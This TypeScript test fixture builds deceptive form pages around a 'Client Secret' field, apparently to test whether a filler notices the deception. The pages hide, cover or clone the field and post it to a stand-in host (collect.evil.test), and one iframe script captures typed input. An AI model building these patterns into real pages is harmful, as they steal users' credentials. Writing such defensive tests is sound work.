import { BUTTONS, type Build, OTHERS, row, SECRET_ROW, secret } from './page.ts';

const withSecret = (inner: string, script = '', attributes = ''): Build => ({
  markup: `<form ${attributes}>${OTHERS}${inner}${BUTTONS}</form>`,
  script,
});
const secretIn = (style: string) =>
  `<div style="${style}">${row('Client Secret', secret(), 'clientSecret')}</div>`;
const styled = (style: string) => row('Client Secret', secret(`style="${style}"`), 'clientSecret');
const cover = (style: string) =>
  `<div style="position:relative">${SECRET_ROW}<div style="position:absolute;inset:0;background:white;${style}">Anything else</div></div>`;
const twin = (more: string) =>
  `${SECRET_ROW}<label for="twin">Client Secret</label><input id="twin" data-name="twin" ${more}>`;

/** Everything but the secret in the page, and the secret's field in a frame of it. */
const frame = (source: string) => `<iframe width="600" height="80" ${source}></iframe>`;
const FRAME_FIELD = '<label>Client Secret <input data-name="clientSecret"></label>';
const FRAME_WATCH =
  "<script>addEventListener('input', ({ target }) => fetch('/form-report', { method: 'POST', body: JSON.stringify({ fields: { framed: target.value } }) }))</script>";

/** Takes the field away and puts its like there, as soon as the event comes. */
const replaceOn = (event: string) => `
document.querySelector('#clientSecret').addEventListener('${event}', ({ target }) => {
  const other = target.cloneNode();
  other.dataset.name = 'replacement';
  other.value = '';
  target.replaceWith(other);
}, { once: true });`;

/** What the secret may come to in a page that means ill, or is built so badly that nobody can tell. */
export const HOSTILE_BUILDS = {
  hidden: withSecret(styled('display:none')),
  'hidden-row': withSecret(secretIn('display:none')),
  invisible: withSecret(secretIn('visibility:hidden')),
  transparent: withSecret(styled('opacity:0')),
  'transparent-row': withSecret(secretIn('opacity:0.02')),
  filtered: withSecret(secretIn('filter:opacity(0)')),
  'one-pixel': withSecret(styled('width:1px;height:1px;padding:0;border:0')),
  clipped: withSecret(secretIn('height:1px;overflow:hidden')),
  'clip-path': withSecret(styled('clip-path:inset(50%)')),
  scaled: withSecret(styled('transform:scale(0.01)')),
  'off-screen': withSecret(styled('position:absolute;left:-9999px')),
  'fixed-off-screen': withSecret(styled('position:fixed;top:200vh')),
  covered: withSecret(cover('')),
  'under-glass': withSecret(cover('pointer-events:none')),
  disabled: withSecret(row('Client Secret', secret('disabled'), 'clientSecret')),
  'disabled-fieldset': withSecret(`<fieldset disabled>${SECRET_ROW}</fieldset>`),
  'read-only': withSecret(row('Client Secret', secret('readonly'), 'clientSecret')),
  'type-hidden': withSecret(
    '<input type="hidden" aria-label="Client Secret" data-name="clientSecret">',
  ),
  'editable-decoy': withSecret(
    '<div contenteditable aria-label="Client Secret" data-name="clientSecret">x</div>',
  ),
  'two-equal': withSecret(twin('')),
  'hidden-twin': withSecret(twin('style="display:none"')),
  'two-names': withSecret(
    row('Client Secret', secret('aria-label="Organisation URL of your friends"'), 'clientSecret') +
      row('Comment', '<input id="c" data-name="comment" aria-label="Client Secret">', 'c'),
  ),
  'hidden-label': withSecret(
    `<label for="clientSecret" style="display:none">Client Secret</label><div class="row"><label>Your comment</label>${secret()}</div>`,
  ),
  'foreign-action': withSecret(
    SECRET_ROW,
    '',
    'action="https://collect.evil.test/take" method="post"',
  ),
  'plain-action': withSecret(SECRET_ROW, '', 'action="http://contoso.eugb.mapsimise.com/"'),
  'foreign-button': withSecret(
    `${SECRET_ROW}<button formaction="https://collect.evil.test/take">Save</button>`,
  ),
  'foreign-base': {
    markup: `<base href="https://collect.evil.test/"><form action="take">${OTHERS}${SECRET_ROW}</form>`,
  },
  'foreign-form': {
    markup: `<form id="far" action="https://collect.evil.test/take"></form><form>${OTHERS}${row('Client Secret', secret('form="far"'), 'clientSecret')}</form>`,
  },
  frame: {
    markup: `<form>${OTHERS}</form>${frame(`srcdoc="${`${FRAME_FIELD}${FRAME_WATCH}`.replaceAll('"', '&quot;')}"`)}`,
  },
  'foreign-frame': {
    markup: `<form>${OTHERS}</form>${frame('src="https://contoso.eugb.mapsimise.com.evil.test/connectors/add?form=plain"')}`,
  },
  'replaced-on-focus': withSecret(SECRET_ROW, replaceOn('focus')),
  'late-twin': withSecret(
    SECRET_ROW,
    `document.querySelector('#clientSecret').addEventListener('focus', ({ target }) => {
  const other = target.cloneNode();
  other.id = 'twin';
  other.dataset.name = 'twin';
  other.setAttribute('aria-label', 'Client Secret');
  target.after(other);
}, { once: true });`,
  ),
} satisfies Record<string, Build>;

/** These do what they do by themselves, so each has a test of its own. */
export const RESTLESS_BUILDS = {
  /** Loads itself anew when the test says so: it calls `leave`. */
  'self-navigating': withSecret(
    SECRET_ROW,
    "window.leave = () => { location.href = '/connectors/add?form=plain&anew'; };",
  ),
  /** The switch is the button that buys. */
  'buying-switch': {
    markup: `<form>${OTHERS.slice(0, OTHERS.lastIndexOf('<div'))}<button role="switch" aria-checked="false" aria-label="Impersonate Users" class="switch" data-name="impersonateUsers"></button>${SECRET_ROW}</form>`,
  },
} satisfies Record<string, Build>;
